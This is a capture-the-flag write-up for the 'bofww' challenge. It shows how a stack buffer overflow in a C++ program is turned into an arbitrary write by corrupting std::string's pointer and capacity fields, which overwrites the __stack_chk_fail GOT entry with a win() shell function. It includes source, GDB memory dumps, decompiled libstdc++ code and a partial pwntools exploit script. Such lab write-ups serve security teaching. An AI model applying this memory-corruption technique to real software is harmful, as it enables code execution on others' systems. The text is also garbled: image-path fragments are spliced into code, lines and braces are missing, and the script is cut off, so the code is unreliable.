Author: ptr-yudai
Description: buffer overflow with win function
Attachment: bofww.tar.gz


Buffer overflow into arbitrary address write via std::string operator=

Source Code

#include <iostream>void win() {

void input_person(int& age, std::string& name) {
  int _age;
  char _name[0x100];
  std::cout << "What is your first name? ";
  std::cin >> _name;
  std::cout << "How old are you? ";
  std::cin >> _age;
  name = _name;
  age = _age;

int main() {
  int age;std::string name;
  input_person(age, name);
  std::cout << "Information:" << std::endl
            << "Age: " << age << std::endl
            << "Name: " << name << std::endl;
  return 0;

void setup(void) {
  std::setbuf(stdin, NULL);
  std::setbuf(stdout, NULL);
$ checksec --file ./bofww
    Arch:     amd64-64-little
    RELRO:    Partial RELRO
    Stack:    Canary found
    NX:       NX enabled
    PIE:      No PIE (0x400000)

Initial Analysis

There is an obvious buffer overflow on input_person(), specifically the _name variable. However, the program is compiled with stack protector and we might need to leak the stack cookie for us to smash the stack. Unfortunately, I could not find any way to leak the cookie and gain another round of buffer overflow. Luckily, the program global offset table (GOT) entries are overwritable. Moreover, there is a win function which would pop us a shell; hence, the plan is to overwrite __stack_chk_fail GOT entry to be the address of win() function.But, how do we overwrite the GOT, you may ask? Well, in short, we overwrite the std::string structure which contains pointer to a memory address in which the actual string content lives. Guess, this is a good excuseto dive into libstdc++6 (cxx11) std::string internals to better understand how our exploit works. Then, we would walkthrough the operator= function to better craft our exploit. If you are just here for the final solve script, you can skip to this section.

std::string Brief Internals

Let's try to play with the program through GDB. First, set a breakpoint at input_person+164, which is the just before name = _name line of code is executed. Next, run the program and input any short name, in this example, the input would be aaaabaaa for _name, and any number for _age.

gef> break *input_person+164
gef> run
gef> info reg rdi
rdi            0x7fffffffcde0      0x7fffffffcde0
gef> ni
gef> tele 0x7fffffffcde0
0x7fffffffcde0|+0x0000|+000: 0x00007fffffffcdf0  ->  'aaaabaaa'  <-  $rax
0x7fffffffcde8|+0x0008|+001: 0x0000000000000008
0x7fffffffcdf0|+0x0010|+002: 'aaaabaaa'  <-  $rdi
0x7fffffffcdf8|+0x0018|+003: 0x0000000000000000
0x7fffffffce00|+0x0020|+004: 0x0000000000000000
0x7fffffffce08|+0x0028|+005: 0xa7306dc9e85ed800  <-  canary

We could try to supply another input, for example aaaabaaacaaaa, and inspect the memory.

0x7fffffffcde0|+0x0000|+000: 0x00007fffffffcdf0  ->  'aaaabaaacaaa'  <-  $rax
0x7fffffffcde8|+0x0008|+001: 0x000000000000000c ('\x0c'?)
0x7fffffffcdf0|+0x0010|+002: 'aaaabaaacaaa'  <-  $rdi
0x7fffffffcdf8|+0x0018|+003: 0x0000000061616163 ('caaa'?)
0x7fffffffce00|+0x0020|+004: 0x0000000000000000
0x7fffffffce08|+0x0028|+005: 0xdea7b9a5dde5b200  <-  canary

We could see from the two examples how std::string is represented on the stack and sort of guess that:

0x00pointer tothe string content
0x08length of the string content
0x10the actual string content

Looks like the structure could hold up to either 0x10 or 0x18 bytes of characters (including the NULL termination byte) on the stack. Let's try to provide 0x10 bytes of input and see how it reacts.

0x7fffffffcde0|+0x0000|+000: 0x00000000004172b0  ->  'aaaaaaaabaaaaaaa'  <-  $rax
0x7fffffffcde8|+0x0008|+001: 0x0000000000000010
0x7fffffffcdf0|+0x0010|+002: 0x000000000000001e  <-  $rdi
0x7fffffffcdf8|+0x0018|+003: 0x00000000000000000x7fffffffce00|+0x0020|+004: 0x0000000000000000
0x7fffffffce08|+0x0028|+005: 0xc382c9256963b300  <-  canary

As could be seen, our string is now allocated on the heap.

Since there is a pointer to a memory address, we could probably overwrite this value with our buffer overflow and point it to __stack_chk_fail@got.plt.

payload = b""
payload += p64(win)
payload = payload.ljust(0x130, b"\x00")
payload +=p64(stack_chk_fail_got)

With this payload, we actually got a SIGSEGV and looking at the call stack, it is trying to call free which hints us on operator= trying to allocate our input on the heap. However, our input is only 3 bytes long as NULL bytes are not counted. This is weird. Guess, this is a perfect time to look at how operator= works.

 -> 0x7fdbf5c3d8d7 498b4608           <_int_free+0x1b7>   mov    rax, QWORD PTR [r14 + 0x8]
[!] Cannot access memory at address 0x8050d8
[Thread Id:1] Name: "bofww", stopped at 0x7fdbf5c3d8d7 <_int_free+0x1b7>, reason: SIGSEGV
[#0] 0x7fdbf5c3d8d7 <_int_free+0x1b7>
[#1] 0x7fdbf5c404d3 <free+0x73> (framename: __GI___libc_free)
[#2] 0x7fdbf5f4182d <std::__cxx11::basic_string<char, std::char_traits<char>, std::allocator<char> >::_M_mutate(unsigned long, unsigned long, char const*, unsigned long)+0xed>
[#3] 0x7fdbf5f4288b <std::__cxx11::basic_string<char, std::char_traits<char>, std::allocator<char> >::_M_replace(unsigned long, unsigned long, char const*, unsigned long)+0xfb>
[#4] 0x0000004013b9 <input_person(int&, std::__cxx11::basic_string<char, std::char_traits<char>, std::allocator<char> >&)+0xa9>
[#5] 0x000000000000 <NO_SYMBOL>

Understanding operator=(const char *)Unfortunately, I could not find the libstdc++ source code for the operator= function (skill issue, probably) and had to instead use ghidra to decompile the file.

To easily locate the function address, turn off demangling inside GDB (if you have it turned on) and use the mangled function name _ZNSt7__cxx1112basic_stringIcSt11char_traitsIcESaIcEEaSEPKc as the search filter.

gef> set print asm-demangle off
gef> x/i 0x00000000004013b4
0x4013b4 <_Z12input_personRiRNSt7__cxx1112basic_stringIcSt11char_traitsIcESaIcEEE+164>:      call   0x4011a0 <_ZNSt7__cxx1112basic_stringIcSt11char_traitsIcESaIcEEaSEPKc@plt>

The following is the decompiled code for operator=(const char *). As could be seen, there is a familiar function named _M_replace(). It accepts:

  • the std::string structure as the first parameter,
  • index as the second parameter
  • current string length (offset 0x08) as the third parameter
  • pointer to the new string content as the fourth parameter
  • and lastly, the length of the new string
void __thiscall
          (basic_string<char,std::char_traits<char>,std::allocator<char>> *this,char *new_str)

  size_t new_len;
  new_len = strlen(new_str);
  _M_replace(this,0,*(ulong *)(this + 8),new_str,new_len);

Looking into _M_replace(), there is the _M_mutate()function which causes the SIGSEGV. To avoid calling _M_mutate(), capacity, which is the value at offset 0x10 (since we overwrote ptr and now ptr != this+0x10), needs to be larger than our input length. Since we have buffer overflow, we could control the value at offset 0x10 as well which make the program goes into the else block and finally execute the memcpy() function, where the destination is the overwritten ptr value plus index (which is always 0) and the source is our input value.

basic_string<char,std::char_traits<char>,std::allocator<char>> * __thiscall
          (basic_string<char,std::char_traits<char>,std::allocator<char>> *this,ulong index,
          ulong cur_size,char *new_str,ulong new_len)

  basic_string<char,std::char_traits<char>,std::allocator<char>> *__dest;
  ulong _new_len;
  ulong capacity;
  ulong idk;
  long _cur_size;
  basic_string<char,std::char_traits<char>,std::allocator<char>> *ptr;
  _cur_size = *(long *)(this + 8);
  if (new_len <= (cur_size + 0x3fffffffffffffff) - _cur_size) {
    ptr = *(basic_string<char,std::char_traits<char>,std::allocator<char>> **)this;
    _new_len = (new_len - cur_size) + _cur_size;
    if (ptr == this + 0x10) {
                    /* inlinestring (on stack) */
      capacity = 0xf;
    else {
      capacity = *(ulong *)(this + 0x10);
    if (capacity < _new_len) { // <=== avoid this
    else {
      __dest = ptr + index;
      idk = _cur_size - (index + cur_size);
      if ((new_str < ptr) || (ptr + _cur_size < new_str)) {
        if ((idk != 0) && (cur_size != new_len)) {
          if (idk == 1) {
            __dest[new_len] = __dest[cur_size];
          else {
            memmove(__dest + new_len,__dest + cur_size,idk);
        if (new_len != 0) {
          if (new_len == 1) {
            *__dest = (basic_string<char,std::char_traits<char>,std::allocator<char>>)*new_str;
          else {
            memcpy(__dest,new_str,new_len); // <=== target
      else {
        _M_replace_cold(this,(char *)__dest,cur_size,new_str,new_len,idk);
    *(ulong *)(this + 8) = _new_len;
    *(undefined *)(*(long *)this + _new_len) = 0;
    return this;
                    /* WARNING: Subroutine does not return */


Let's briefly recap on our analysis:

  • input_person() function is subjected to buffer overflow• std::string contains a pointer to memory address at offset 0x00
  • this pointer could be overwritten w/ buffer overflow to point to __stack_chk_fail@got.plt and our input would be used to populate this GOT entry
  • simply overwriting this pointer is not enough as the operator= function calls into _M_mutate() which causes segmentation fault
  • need to overwrite std::string structure at offset 0x10 to be larger than our input length (calculated with strlen) to avoid the _M_mutate() function calls
#!/usr/bin/env python3# type: ignore
# flake8: noqa

from pwn import *

elf = context.binary = ELF("./bofww", checksec=False)

def start(argv=[], *a, **kw):
    nc = "nc 9002"
    nc = nc.split()
    host = args.HOST or nc[1]
    port = int(args.PORT or nc[2])
    if args.REMOTE:
        return remote(host, port)
        return process([elf.path] + argv, env=env, *a, **kw)env = {}
io = start()

win = 0x4012f6
stack_chk_fail_got =["__stack_chk_fail"]
payload = b""
payload += p64(win)
payload = payload.ljust(0x130, b"\x00")
payload += flat(
